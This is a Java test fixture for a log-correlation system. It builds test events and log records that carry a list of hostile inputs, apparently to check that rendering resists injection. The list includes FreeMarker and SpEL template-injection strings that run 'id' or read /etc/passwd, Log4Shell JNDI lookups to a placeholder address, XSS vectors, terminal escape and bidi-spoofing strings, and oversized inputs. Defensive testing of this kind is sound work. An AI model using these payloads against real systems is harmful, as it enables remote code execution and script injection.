package io.correlator.core.message;

import io.correlator.api.Block;
import io.correlator.api.Block.Counting;
import io.correlator.api.Block.Provenance;
import io.correlator.api.EmittedEvent;
import io.correlator.api.Event;
import io.correlator.api.Fields;
import io.correlator.api.LogRecord;
import io.correlator.api.RecordHeader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;

/** Events that an attacker had a hand in. */
final class Hostile {
  static final Instant NOON = Instant.parse("2026-03-01T12:00:00Z");

  /** What someone may write into a log to make a template engine, a terminal or a browser act. */
  static final List<String> PAYLOADS =
      List.of(
          // Arithmetic in the notations of many engines.
          "${7*7}",
          "#{7*7}",
          "[=7*7]",
          "{{7*7}}",
          "{{=7*7}}",
          "${{7*7}}",
          "$%7B7*7%7D",
          "@{7*7}",
          "*{7*7}",
          "<%= 7*7 %>",
          "$!{7*7}",
          "#set($x=7*7)$x",
          "${\"a\"?upper_case}",
          "${'freemarker'?length}",
          // FreeMarker itself.
          "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
          "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
          "[#assign ex = 'freemarker.template.utility.Execute'?new()]${ex('id')}",
          "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.io.File\",\"/\")}",
          "${\"freemarker.template.utility.JythonRuntime\"?new()}",
          "<@\"freemarker.template.utility.JythonRuntime\"?new()>import os</@>",
          "<#assign c=event?api.class.protectionDomain.classLoader>${c}",
          "${event.class.forName('java.lang.Runtime')}",
          "${event?api.getClass()}",
          "${'7*7'?eval}",
          "${'${7*7}'?interpret}",
          "<#assign t='${7*7}'?interpret><@t/>",
          "${'[7*7]'?eval_json[0]}",
          "<#include '/etc/passwd'>",
          "<#include \"file:///etc/passwd\" parse=false>",
          "<#import '/lib.ftl' as lib>",
          "${.data_model}",
          "${.globals.event}",
          "${.vars['event']}",
          "${.main}",
          "${.now}",
          "${.get_optional_template('/etc/passwd').include()}",
          "<#macro m><@m/></#macro><@m/>",
          "<#list 1..1000000000 as i>${i}</#list>",
          "<#setting locale='tr_TR'>",
          "<#ftl output_format='undefined' auto_esc=false>",
          "</#if></#list>${7*7}",
          "<#-- comment --><#stop 'halt'>",
          "--> ${7*7} <#--",
          "</#noparse>${7*7}",
          "}${7*7}{",
          "\"}${7*7}",
          "${r\"${7*7}\"}",
          // Other engines and look-ups.
          "${jndi:ldap://198.51.100.7/a}",
          "${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}",
          "${T(java.lang.Runtime).getRuntime().exec('id')}",
          "__${T(java.lang.Runtime).getRuntime()}__::.x",
          "{% import os %}{{ os.popen('id').read() }}",
          "{{constructor.constructor('alert(1)')()}}",
          "%{(#a=@java.lang.Runtime@getRuntime())}",
          // Browsers.
          "<script>alert(1)</script>",
          "\"><script>alert(1)</script>",
          "'><img src=x onerror=alert(1)>",
          "<svg/onload=alert(1)>",
          "</title><script>alert(1)</script>",
          "--><script>alert(1)</script><!--",
          "<a href=\"javascript:alert(1)\">x</a>",
          "\" onmouseover=\"alert(1)\" x=\"",
          "' autofocus onfocus='alert(1)",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#x3c;script&#x3e;",
          "<style>@import 'https://203.0.113.9/x.css'</style>",
          "<iframe srcdoc='<script>alert(1)</script>'>",
          "]]><script>alert(1)</script>",
          "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
          // Terminals and readers.
          "\u001b[2J\u001b[1;1Hroot logged in",
          "\u001b]0;title\u0007",
          "\u009b31mred",
          "one\nroot logged in\r\nthree",
          "a\u0000b",
          "a\tb\u000bc\u000cd\u007fe",
          "\u202egnp.exe",
          "\u2066\u2067abc\u2069",
          "a\u200bb\u200dc\ufeffd\u00ade",
          "a\u2028b\u2029c",
          "\udb40\udc41\udb40\udc42 tags",
          "\ud83d\ude00 whole",
          "x".repeat(100_000),
          "${".repeat(20_000),
          "\u202e".repeat(5_000));

  private Hostile() {}

  /** An event in which {@code payload} stands wherever an attacker may have put it. */
  static EmittedEvent event(String payload) {
    Event event =
        Event.error("Test")
            .summary(payload)
            .timestamp(NOON)
            .field("user", payload)
            .field(
                "nested",
                Fields.builder().put("deep", payload).put("list", List.of(payload)).build())
            .field(payload, "named")
            .evidence(record(payload))
            .build();
    return EmittedEvent.causedByTime(NOON, "test", event, 0);
  }

  /** A line whose host, program and message are {@code payload}. */
  static LogRecord record(String payload) {
    byte[] part = payload.getBytes(StandardCharsets.UTF_8);
    byte[] line = (payload + payload + payload).getBytes(StandardCharsets.UTF_8);
    RecordHeader header = new RecordHeader();
    header.timestamp(NOON.toEpochMilli());
    header.host(0, part.length);
    header.program(part.length, 2 * part.length);
    header.message(2 * part.length);
    Provenance provenance =
        new Provenance(payload, 0, Counting.BYTES, read -> Fields.of("said", payload));
    return Block.of(line, provenance, 0, 1, NOON).record(0, line.length, 1, header, NOON);
  }
}
